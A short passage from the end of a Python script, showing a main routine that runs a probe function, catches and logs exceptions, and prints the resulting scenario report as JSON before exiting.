        return EXIT_NO_CONNECTION
    try:
        report = function(session, args)
    except Exception as failure:  # report it as JSON rather than a bare traceback
        traceback.print_exc(file=sys.stderr)
        session.errors.append(f"probe failure: {failure.__class__.__name__}: {failure}")
        report = session.report(args.scenario)
    finally:
        session.close()
    print(json.dumps(report))
    return 0


if __name__ == "__main__":
    sys.exit(main())
